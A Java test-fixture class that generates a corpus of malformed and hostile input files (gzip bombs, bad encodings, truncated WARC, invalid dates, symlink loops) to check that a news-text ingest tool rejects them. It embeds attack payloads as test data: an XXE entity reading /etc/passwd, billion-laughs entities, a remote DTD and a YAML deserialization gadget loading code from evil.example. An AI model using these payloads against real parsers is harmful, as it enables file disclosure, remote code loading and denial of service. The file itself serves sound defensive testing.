package org.storyline.reliability;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.channels.FileChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.storyline.reliability.HostileCase.ExpectedSkip;

/**
 * Writes the hostile corpus: every case of {@link #cases()} into one folder, and the good part of each into
 * another under the same name. All good parts use three short texts, so an ingest annotates three articles
 * whatever the number of cases. Not thread-safe (one instance writes one pair of folders).
 */
final class HostileCorpus {
    static final String T1 = "The mayor of Springfield opened a new bridge on March 3, 2021.";
    static final String T2 = "Farmers in Ohio protested against the new tax on Friday.";
    static final String T3 = "The central bank raised interest rates in June 2021.";
    static final String D1 = "2021-03-04";
    static final String D2 = "2021-06-11";
    static final String D3 = "2021-07-01";

    /** The size of the generated big file; far above the 64 MiB a text input may have. */
    static final long BIG_FILE_BYTES = 200L * 1024 * 1024;
    /** The length of the generated one-line file: past the limit of one article's text, below the file limit. */
    static final int LONG_LINE_CHARS = 10 * 1024 * 1024;

    private static final String TOO_LONG = "text longer than 200000 characters";
    private static final String UNRECOGNISED = "unrecognised format: no publication date found (expected a first line"
            + " ' date YYYY-MM-DD', YAML front matter with a date, JSONL, HTML, RSS/Atom or WARC)";
    private static final String DTD_REFUSED = "feed has a DTD (<!DOCTYPE>); refused to keep external entities out";

    private final Path hostile;
    private final Path good;
    private final boolean permissionsApply;
    private final List<HostileCase> cases = new ArrayList<>();

    /**
     * @param permissionsApply whether file permissions stop this process from reading (false for root): when
     *                         not, the unreadable-file case cannot be made and is left out
     */
    HostileCorpus(Path hostile, Path good, boolean permissionsApply) {
        this.hostile = hostile;
        this.good = good;
        this.permissionsApply = permissionsApply;
    }

    /** Whether this process can be refused a file by its permissions (root reads everything). */
    static boolean permissionsApply(Path dir) throws IOException {
        Path probe = Files.writeString(dir.resolve(".permission-probe"), "x");
        try {
            Files.setPosixFilePermissions(probe, PosixFilePermissions.fromString("---------"));
            return !Files.isReadable(probe);
        } finally {
            Files.delete(probe);
        }
    }

    /** Writes both folders and returns the cases, in the order the corpus lists them. */
    List<HostileCase> write() throws IOException {
        Files.createDirectories(hostile);
        Files.createDirectories(good);
        emptyAndBinary();
        compressed();
        encodings();
        sizes();
        jsonLines();
        dates();
        html();
        feeds();
        frontMatter();
        duplicatesAndFolders();
        cases.sort((a, b) -> a.name().compareTo(b.name()));
        return List.copyOf(cases);
    }

    private void emptyAndBinary() throws IOException {
        bad("empty.txt", "empty file", new byte[0], skip("empty.txt", "empty file"));
        bad("blank.txt", "only spaces", utf8(" \n\n\t  \u00a0\n"), skip("blank.txt", "empty file"));
        bad("bom-only.txt", "UTF-8 byte order mark only", bytes(0xef, 0xbb, 0xbf), skip("bom-only.txt", "empty file"));
        bad("empty.jsonl.gz", "gzip of nothing", gzip(new byte[0]), skip("empty.jsonl.gz", "empty file"));
        bad("random.bin", "random bytes", random(4096, 1), skip("random.bin", "binary file"));
        bad("image.png", "PNG header and data", concat(bytes(0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13),
                random(512, 2)), skip("image.png", "binary file"));
        bad("archive.zip", "zip archive of a good text", zip("a.txt", seed(D1, T1)), skip("archive.zip", "binary file"));
        bad("nul-in-text.txt", "NUL byte in a seed text", concat(utf8(" date " + D1 + " " + T1), new byte[] {0}),
                skip("nul-in-text.txt", "binary file"));
        bad("plain.txt", "text without a date", utf8("Just some notes without any date.\n"),
                skip("plain.txt", UNRECOGNISED));
        bad("pretty.json", "pretty-printed JSON", utf8("{\n  \"text\": \"" + T1 + "\",\n  \"published\": \"" + D1
                + "\"\n}\n"), skip("pretty.json", UNRECOGNISED));
    }

    private void compressed() throws IOException {
        byte[] seedGz = gzip(utf8(seed(D1, T1) + "x".repeat(20_000)));
        bad("truncated.txt.gz", "gzip cut in half", Arrays.copyOf(seedGz, seedGz.length / 2),
                prefixSkip("truncated.txt.gz", "cannot read: "));
        bad("gzip-header-only.txt.gz", "gzip header without data", Arrays.copyOf(seedGz, 10),
                prefixSkip("gzip-header-only.txt.gz", "cannot read: "));
        byte[] corrupt = seedGz.clone();
        for (int i = 20; i < 60; i++) {
            corrupt[i] = (byte) ~corrupt[i];
        }
        bad("corrupt.txt.gz", "gzip with damaged data", corrupt, prefixSkip("corrupt.txt.gz", "cannot read: "));
        byte[] bomb = gzipRepeated(utf8(" date " + D1 + " "), utf8("All work and no play. "), 100L * 1024 * 1024);
        bad("bomb.txt.gz", "100 MiB of text in a small gzip", bomb, skip("bomb.txt.gz", "file larger than 64 MiB"));

        byte[] warc = warc(page(T1, D1, "Bridge"), page(T2, D2, "Tax"));
        byte[] firstRecordOnly = warc(page(T1, D1, "Bridge"));
        mixed("truncated.warc", "WARC cut inside its second record", Arrays.copyOf(warc, warc.length - 120),
                firstRecordOnly, prefixSkip("truncated.warc#2", "unreadable HTTP response: "));
        byte[] warcGz = gzipMembers(warc(page(T1, D1, "Bridge")), warc(page(T2, D2, "Tax")));
        mixed("truncated.warc.gz", "gzipped WARC cut inside its second record",
                Arrays.copyOf(warcGz, warcGz.length - 40), gzipMembers(warc(page(T1, D1, "Bridge"))),
                prefixSkip("truncated.warc.gz#2", "unreadable WARC record: "));
        bad("bad-header.warc", "WARC with a broken header", utf8("WARC/1.0\r\nthis is not a header\r\n\r\n"),
                prefixSkip("bad-header.warc#1", "unreadable WARC record: "));
    }

    private void encodings() throws IOException {
        bad("latin1.txt", "Latin-1 text", seed(D2, "Caf\u00e9 owners in Ohio protested.").getBytes(StandardCharsets.ISO_8859_1),
                skip("latin1.txt", "not valid UTF-8 text"));
        bad("invalid-utf8.txt", "invalid UTF-8 sequence", concat(utf8(seed(D2, "Farmers ")), bytes(0xc3, 0x28),
                utf8(" protested.")), skip("invalid-utf8.txt", "not valid UTF-8 text"));
        bad("overlong-utf8.txt", "overlong UTF-8 encoding of '/'", concat(utf8(seed(D2, "Farmers ")), bytes(0xc0, 0xaf)),
                skip("overlong-utf8.txt", "not valid UTF-8 text"));
        bad("utf16-no-bom.txt", "UTF-16 without byte order mark", seed(D2, T2).getBytes(StandardCharsets.UTF_16LE),
                skip("utf16-no-bom.txt", "binary file"));
        bad("utf16-odd.txt", "UTF-16 with a byte order mark and a lone surrogate", concat(bytes(0xff, 0xfe),
                seed(D2, T2).getBytes(StandardCharsets.UTF_16LE), bytes(0x00, 0xd8)),
                skip("utf16-odd.txt", "not valid UTF-16 text"));
        good("utf16le-bom.txt", "UTF-16LE with byte order mark", concat(bytes(0xff, 0xfe),
                seed(D2, T2).getBytes(StandardCharsets.UTF_16LE)));
        good("utf16be-bom.txt", "UTF-16BE with byte order mark", concat(bytes(0xfe, 0xff),
                seed(D2, T2).getBytes(StandardCharsets.UTF_16BE)));
        good("utf8-bom.txt", "UTF-8 with byte order mark", concat(bytes(0xef, 0xbb, 0xbf), utf8(seed(D2, T2))));
        good("crlf.txt", "Windows line ends and control characters", utf8(" date " + D2 + " " + T2
                + "\r\n\u0007\r\n"));
        byte[] latinLine = ("{\"text\":\"Caf\u00e9 owners protested.\",\"published\":\"" + D2 + "\"}\n")
                .getBytes(StandardCharsets.ISO_8859_1);
        mixed("mixed-encoding.jsonl", "a Latin-1 line between UTF-8 lines",
                concat(utf8(jsonLine(T1, D1, "a")), latinLine, utf8(jsonLine(T3, D3, "c"))),
                utf8(jsonLine(T1, D1, "a") + jsonLine(T3, D3, "c")), skip("mixed-encoding.jsonl:2", "not valid UTF-8 text"));
    }

    private void sizes() throws IOException {
        Path big = hostile.resolve("big-200mb.txt");
        try (FileChannel channel = FileChannel.open(big, StandardOpenOption.CREATE_NEW, StandardOpenOption.WRITE)) {
            channel.write(ByteBuffer.wrap(utf8(seed(D1, ""))));
            byte[] block = utf8("The mayor spoke about the bridge again. ".repeat(26_000));
            long written = 0;
            while (written < BIG_FILE_BYTES) {
                written += channel.write(ByteBuffer.wrap(block));
            }
        }
        cases.add(new HostileCase("big-200mb.txt", "a 200 MB text file", List.of(skip("big-200mb.txt",
                "file larger than 64 MiB")), false));
        String line = "word ".repeat(LONG_LINE_CHARS / 5);
        bad("long-line.txt", "one line of 10 MB", utf8(seed(D1, line)), skip("long-line.txt", TOO_LONG));
        mixed("long-line.jsonl", "a line of 10 MB between good lines", utf8(jsonLine(T1, D1, "a")
                        + jsonLine(line, D1, "long") + jsonLine(T2, D2, "b")),
                utf8(jsonLine(T1, D1, "a") + jsonLine(T2, D2, "b")), skip("long-line.jsonl:2", TOO_LONG));
    }

    private void jsonLines() throws IOException {
        brokenLine("jsonl-broken.jsonl", "unterminated JSON line", "{\"text\": \"unterminated",
                "invalid JSON: ", true);
        brokenLine("jsonl-trailing.jsonl", "JSON line with trailing garbage", "{\"text\": \"x\"} x",
                "invalid JSON: ", true);
        brokenLine("jsonl-array.jsonl", "JSON array instead of an object", "[1, 2, 3]", "not a JSON object", false);
        brokenLine("jsonl-no-text.jsonl", "no text field", "{\"published\": \"" + D1 + "\"}", "no text", false);
        brokenLine("jsonl-number-text.jsonl", "text is a number", "{\"text\": 5, \"published\": \"" + D1 + "\"}",
                "no text", false);
        brokenLine("jsonl-no-date.jsonl", "no date field", "{\"text\": \"Undated words.\"}",
                "no publication date", false);
        brokenLine("jsonl-deep.jsonl", "100k nested arrays", "{\"text\": " + "[".repeat(100_000)
                + "]".repeat(100_000) + "}", "invalid JSON: ", true);
        brokenLine("jsonl-bad-time.jsonl", "hour 25", "{\"text\": \"Late words.\", \"published\": \"2021-02-01T25:00\"}",
                "invalid date \"2021-02-01T25:00\"", false);
    }

    private void dates() throws IOException {
        brokenLine("jsonl-feb30.jsonl", "February 30th", "{\"text\": \"Odd words.\", \"published\": \"2022-02-30\"}",
                "invalid date \"2022-02-30\"", false);
        brokenLine("jsonl-year0.jsonl", "year 0", "{\"text\": \"Old words.\", \"published\": \"0000-01-01\"}",
                "date out of range \"0000-01-01\"", false);
        brokenLine("jsonl-future.jsonl", "year 9999", "{\"text\": \"Future words.\", \"published\": \"9999-12-31\"}",
                "date out of range \"9999-12-31\"", false);
        bad("seed-feb30.txt", "February 30th in a seed header", utf8(seed("2022-02-30", T1)),
                skip("seed-feb30.txt", "invalid date \"2022-02-30\""));
        bad("seed-year0.txt", "year 0 in a seed header", utf8(seed("0000-01-01", T1)),
                skip("seed-year0.txt", "date out of range \"0000-01-01\""));
        bad("seed-future.txt", "year 3000 in a seed header", utf8(seed("3000-01-01", T1)),
                skip("seed-future.txt", "date out of range \"3000-01-01\""));
        bad("seed-no-text.txt", "seed header without text", utf8(" date " + D1 + " \n"),
                skip("seed-no-text.txt", "no text"));
        bad("md-no-date.md", "front matter without a date", utf8("---\ntitle: Bridge\n---\n" + T1 + "\n"),
                skip("md-no-date.md", "no publication date"));
        bad("md-feb30.md", "February 30th in front matter", utf8("---\ndate: 2022-02-30\n---\n" + T1 + "\n"),
                skip("md-feb30.md", "invalid date \"2022-02-30\""));
        bad("html-no-date.html", "page without a date", utf8("<html><head><title>Bridge</title></head><body><p>"
                + T1 + "</p></body></html>"), skip("html-no-date.html", "no publication date"));
        bad("html-future.html", "page dated year 9999", utf8(page(T1, "9999-01-01", "Bridge")),
                skip("html-future.html", "date out of range \"9999-01-01\""));
    }

    private void html() throws IOException {
        good("html-scripts.html", "scripts, iframes, event handlers and styles around the text", utf8("""
                <html><head><meta name="date" content="%s"><title>Bridge</title>
                <script>document.write('injected script text');</script>
                <style>p { color: red }</style></head>
                <body onload="alert('onload')"><iframe src="https://evil.example/frame"></iframe>
                <iframe srcdoc="&lt;p&gt;framed text&lt;/p&gt;"></iframe>
                <noscript>noscript text</noscript><p>%s</p>
                <script src="https://evil.example/x.js"></script></body></html>
                """.formatted(D1, T1)));
        good("html-nested.html", "100k nested div tags", utf8("<html><head><meta name=\"date\" content=\"" + D1
                + "\"><title>Bridge</title></head><body>" + "<div>".repeat(100_000) + "<p>" + T1 + "</p>"
                + "</div>".repeat(100_000) + "</body></html>"));
        good("html-unclosed.html", "100k unclosed inline tags", utf8("<html><head><meta name=\"date\" content=\""
                + D1 + "\"><title>Bridge</title></head><body><p>" + T1 + "</p>" + "<b><i>".repeat(50_000)
                + "</body></html>"));
        bad("html-empty-body.html", "page with a date and no text", utf8("<html><head><meta name=\"date\" content=\""
                + D1 + "\"></head><body><script>var x = 1;</script></body></html>"), skip("html-empty-body.html", "no text"));
    }

    private void feeds() throws IOException {
        String entity = "<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
        bad("rss-xxe.xml", "RSS with an external entity", utf8("<?xml version=\"1.0\"?>\n" + entity
                + "\n<rss version=\"2.0\"><channel><title>&xxe;</title>" + item(T1, "Thu, 04 Mar 2021 10:00:00 GMT")
                + "</channel></rss>"), skip("rss-xxe.xml", DTD_REFUSED));
        bad("rss-laughs.xml", "RSS with a billion laughs entity", utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE rss ["
                + "<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>\n<rss version=\"2.0\"><channel><title>&c;</title>"
                + item(T1, "Thu, 04 Mar 2021 10:00:00 GMT") + "</channel></rss>"), skip("rss-laughs.xml", DTD_REFUSED));
        bad("atom-xxe.xml", "Atom with a parameter entity", utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE feed [<!ENTITY % p"
                + " SYSTEM \"https://evil.example/p.dtd\"> %p;]>\n<feed xmlns=\"http://www.w3.org/2005/Atom\">"
                + "<title>x</title></feed>"), skip("atom-xxe.xml", DTD_REFUSED));
        bad("rss-malformed.xml", "RSS cut in the middle of an item", utf8("<rss version=\"2.0\"><channel><title>N"
                + "</title><item><title>Bridge</title><description>" + T1),
                prefixSkip("rss-malformed.xml", "not a valid RSS or Atom feed: "));
        mixed("rss-bad-items.xml", "RSS with undated, empty and far-future items between good ones",
                utf8(rss(item(T1, "Thu, 04 Mar 2021 10:00:00 GMT"), "<item><title>Undated</title><description>Words."
                        + "</description></item>", "<item><title>Empty</title><pubDate>Fri, 11 Jun 2021 10:00:00 GMT"
                        + "</pubDate></item>", item(T3, "Sat, 01 Jan 2999 10:00:00 GMT"),
                        item(T2, "Fri, 11 Jun 2021 10:00:00 GMT"))),
                utf8(rss(item(T1, "Thu, 04 Mar 2021 10:00:00 GMT"), item(T2, "Fri, 11 Jun 2021 10:00:00 GMT"))),
                skip("rss-bad-items.xml#2", "no publication date"), skip("rss-bad-items.xml#3", "no text"),
                skip("rss-bad-items.xml#4", "date out of range \"2999-01-01\""));
    }

    private void frontMatter() throws IOException {
        StringBuilder laughs = new StringBuilder("---\ndate: " + D1 + "\na: &a [\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            String previous = "*" + (char) (c - 1);
            laughs.append(c).append(": &").append(c).append(" [").append(String.join(",", List.of(previous,
                    previous, previous, previous, previous, previous, previous, previous, previous))).append("]\n");
        }
        laughs.append("---\n").append(T1).append('\n');
        bad("yaml-bomb.md", "billion laughs in front matter", utf8(laughs.toString()), prefixSkip("yaml-bomb.md",
                "invalid YAML front matter: "));
        bad("yaml-deep.md", "deeply nested front matter", utf8("---\ndate: " + D1 + "\nx: " + "[".repeat(1000)
                + "]".repeat(1000) + "\n---\n" + T1 + "\n"), prefixSkip("yaml-deep.md", "invalid YAML front matter: "));
        bad("yaml-unclosed.md", "front matter never closed", utf8("---\ndate: " + D1 + "\n" + T1 + "\n"),
                skip("yaml-unclosed.md", "front matter not closed by a --- line"));
        bad("yaml-huge.md", "front matter of 100 000 characters", utf8("---\ndate: " + D1 + "\nx: \""
                + "y".repeat(100_000) + "\"\n---\n" + T1 + "\n"),
                skip("yaml-huge.md", "front matter larger than 65536 characters"));
        bad("yaml-invalid.md", "YAML syntax error", utf8("---\ndate: " + D1 + "\nx: [unclosed\n---\n" + T1 + "\n"),
                prefixSkip("yaml-invalid.md", "invalid YAML front matter: "));
        bad("yaml-tags.md", "Java type tags in front matter", utf8("---\ndate: " + D1
                + "\ntitle: Bridge\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                + " [\"https://evil.example/\"]]]]\n---\n" + T1 + "\n"), skip("yaml-tags.md", "invalid YAML front matter:"
                + " Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager"));
    }

    private void duplicatesAndFolders() throws IOException {
        good("duplicate-ids.jsonl", "two texts under one id, and one text twice", utf8(
                "{\"id\": \"same\", \"text\": \"" + T1 + "\", \"published\": \"" + D1 + "\"}\n"
                        + "{\"id\": \"same\", \"text\": \"" + T2 + "\", \"published\": \"" + D2 + "\"}\n"
                        + "{\"id\": \"other\", \"text\": \"" + T1 + "\", \"published\": \"" + D1 + "\"}\n"));
        Path formats = Files.createDirectories(hostile.resolve("three-formats"));
        Files.writeString(formats.resolve("a.txt"), seed(D3, T3));
        Files.writeString(formats.resolve("b.jsonl"), jsonLine(T3, D3, "bank"));
        Files.writeString(formats.resolve("c.md"), "---\ndate: " + D3 + "\ntitle: Bank\nurl: https://news.example/bank"
                + "\n---\n" + T3 + "\n");
        copyTree(formats, good.resolve("three-formats"));
        cases.add(new HostileCase("three-formats", "one article in seed, JSONL and Markdown", List.of(), true));

        Path loop = Files.createDirectories(hostile.resolve("symlink-loop"));
        Files.writeString(loop.resolve("a.txt"), seed(D1, T1));
        Files.createSymbolicLink(loop.resolve("self"), Path.of("."));
        Files.createSymbolicLink(loop.resolve("again"), Path.of("../symlink-loop"));
        Files.createDirectories(good.resolve("symlink-loop"));
        Files.writeString(good.resolve("symlink-loop").resolve("a.txt"), seed(D1, T1));
        cases.add(new HostileCase("symlink-loop", "folder with links to itself and its parent", List.of(), true));

        Path cycle = Files.createDirectories(hostile.resolve("symlink-cycle"));
        Files.createSymbolicLink(cycle.resolve("x.txt"), Path.of("y.txt"));
        Files.createSymbolicLink(cycle.resolve("y.txt"), Path.of("x.txt"));
        Files.createSymbolicLink(cycle.resolve("z.txt"), Path.of("missing.txt"));
        cases.add(new HostileCase("symlink-cycle", "two links to each other and a dangling link", List.of(
                skip("symlink-cycle/x.txt", "broken symbolic link"), skip("symlink-cycle/y.txt", "broken symbolic link"),
                skip("symlink-cycle/z.txt", "broken symbolic link")), false));

        if (permissionsApply) {
            Path locked = Files.writeString(hostile.resolve("unreadable.txt"), seed(D1, T1));
            Files.setPosixFilePermissions(locked, PosixFilePermissions.fromString("---------"));
            cases.add(new HostileCase("unreadable.txt", "no read permission",
                    List.of(skip("unreadable.txt", "permission denied")), false));
        }
    }

    /** A JSONL file with one bad line (the second) between two good ones. */
    private void brokenLine(String name, String kind, String line, String reason, boolean prefix) throws IOException {
        mixed(name, kind, utf8(jsonLine(T1, D1, "a") + line + "\n" + jsonLine(T2, D2, "b")),
                utf8(jsonLine(T1, D1, "a") + jsonLine(T2, D2, "b")), new ExpectedSkip(name + ":2", reason, prefix));
    }

    private void bad(String name, String kind, byte[] content, ExpectedSkip... skips) throws IOException {
        Files.write(hostile.resolve(name), content);
        cases.add(new HostileCase(name, kind, List.of(skips), false));
    }

    private void good(String name, String kind, byte[] content) throws IOException {
        Files.write(hostile.resolve(name), content);
        Files.write(good.resolve(name), content);
        cases.add(new HostileCase(name, kind, List.of(), true));
    }

    private void mixed(String name, String kind, byte[] content, byte[] goodPart, ExpectedSkip... skips)
            throws IOException {
        Files.write(hostile.resolve(name), content);
        Files.write(good.resolve(name), goodPart);
        cases.add(new HostileCase(name, kind, List.of(skips), true));
    }

    private static ExpectedSkip skip(String location, String reason) {
        return new ExpectedSkip(location, reason, false);
    }

    private static ExpectedSkip prefixSkip(String location, String reason) {
        return new ExpectedSkip(location, reason, true);
    }

    static String seed(String date, String text) {
        return " date " + date + " " + text + "\n";
    }

    static String jsonLine(String text, String date, String slug) {
        return "{\"url\": \"https://news.example/" + slug + "\", \"outlet\": \"News\", \"published\": \"" + date
                + "\", \"text\": \"" + text + "\"}\n";
    }

    private static String page(String text, String date, String title) {
        return "<html><head><meta name=\"date\" content=\"" + date + "\"><title>" + title + "</title></head><body><p>"
                + text + "</p></body></html>";
    }

    private static String item(String text, String date) {
        return "<item><title>Item</title><link>https://news.example/" + Math.abs(text.hashCode()) + "</link><pubDate>"
                + date + "</pubDate><description>" + text + "</description></item>";
    }

    private static String rss(String... items) {
        return "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>Feed</title>" + String.join("", items)
                + "</channel></rss>\n";
    }

    /** A WARC file with one HTTP 200 HTML response per page. */
    private static byte[] warc(String... pages) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int number = 0;
        for (String page : pages) {
            byte[] body = utf8(page);
            byte[] http = concat(utf8("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: "
                    + body.length + "\r\n\r\n"), body);
            number++;
            byte[] header = utf8("WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: https://news.example/page"
                    + number + "\r\nWARC-Date: 2021-03-04T10:00:00Z\r\nWARC-Record-ID: <urn:uuid:00000000-0000-0000-0000-"
                    + String.format("%012d", number) + ">\r\nContent-Type: application/http; msgtype=response\r\n"
                    + "Content-Length: " + http.length + "\r\n\r\n");
            out.writeBytes(header);
            out.writeBytes(http);
            out.writeBytes(utf8("\r\n\r\n"));
        }
        return out.toByteArray();
    }

    private static byte[] gzip(byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** One gzip member per part, concatenated, as WARC files compress each record on its own. */
    private static byte[] gzipMembers(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(gzip(part));
        }
        return out.toByteArray();
    }

    private static byte[] gzipRepeated(byte[] head, byte[] unit, long total) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (OutputStream gz = new GZIPOutputStream(out)) {
            gz.write(head);
            byte[] block = new byte[unit.length * 4096];
            for (int i = 0; i < 4096; i++) {
                System.arraycopy(unit, 0, block, i * unit.length, unit.length);
            }
            for (long written = 0; written < total; written += block.length) {
                gz.write(block);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] zip(String name, String content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(utf8(content));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] random(int size, long seed) {
        byte[] bytes = new byte[size];
        new Random(seed).nextBytes(bytes);
        bytes[0] = 0;
        return bytes;
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static void copyTree(Path from, Path to) throws IOException {
        Files.createDirectories(to);
        try (var files = Files.list(from)) {
            for (Path file : (Iterable<Path>) files::iterator) {
                Files.copy(file, to.resolve(file.getFileName()));
            }
        }
    }

    /** Deletes a corpus folder, links included but never followed, restoring permissions first. */
    static void delete(Path dir) throws IOException {
        if (!Files.exists(dir, java.nio.file.LinkOption.NOFOLLOW_LINKS)) {
            return;
        }
        try (var paths = Files.walk(dir)) {
            List<Path> all = new ArrayList<>(paths.toList());
            all.sort((a, b) -> b.getNameCount() - a.getNameCount());
            for (Path path : all) {
                if (!Files.isSymbolicLink(path)) {
                    path.toFile().setReadable(true, true);
                }
                Files.deleteIfExists(path);
            }
        }
    }
}
